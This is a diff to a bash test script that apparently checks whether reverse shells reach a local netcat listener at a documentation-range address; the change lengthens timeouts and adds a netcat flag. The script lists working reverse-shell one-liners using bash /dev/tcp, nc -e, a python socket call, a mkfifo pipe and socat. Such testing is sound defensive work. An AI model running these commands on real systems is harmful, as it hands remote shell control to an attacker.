@@ -8,9 +8,9 @@ listen() {
 	local i
 
 	# shellcheck disable=SC2016 # for the shell at the other end
-	printf 'echo ran-$((6 * 7))\nexit\n' | timeout 30 nc -l 192.0.2.1 4444 >"$work/heard" 2>/dev/null &
+	printf 'echo ran-$((6 * 7))\nexit\n' | timeout 240 nc -l 192.0.2.1 4444 >"$work/heard" 2>/dev/null &
 	peer=$!
-	for ((i = 0; i < 50; i++)); do
+	for ((i = 0; i < 600; i++)); do
 		[[ -z $(ss --no-header --listening --tcp --numeric 'sport = :4444') ]] || return
 		sleep 0.1
 	done
@@ -59,7 +59,8 @@ shell "bash /dev/tcp" "bash -c 'bash >& /dev/tcp/192.0.2.1/4444 0>&1'"
 shell "nc -e" "nc.traditional 192.0.2.1 4444 -e /bin/sh"
 shell "a python one-liner" "python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"192.0.2.1\",4444));\
 [os.dup2(s.fileno(),n) for n in (0,1,2)];subprocess.call([\"/bin/sh\"])'"
-other_shell "a shell behind pipes" "mkfifo /tmp/pipe; sh </tmp/pipe 2>&1 | nc.traditional 192.0.2.1 4444 >/tmp/pipe"
+other_shell "a shell behind pipes" \
+	"mkfifo /tmp/pipe; sh </tmp/pipe 2>&1 | nc.traditional -q 1 192.0.2.1 4444 >/tmp/pipe"
 # Slow machines: what the shell has said is still on its way when it ends.
 other_shell "a shell behind a pty" "socat -t 5 tcp:192.0.2.1:4444 exec:/bin/sh,pty,stderr,setsid"
 stop reverse-shell
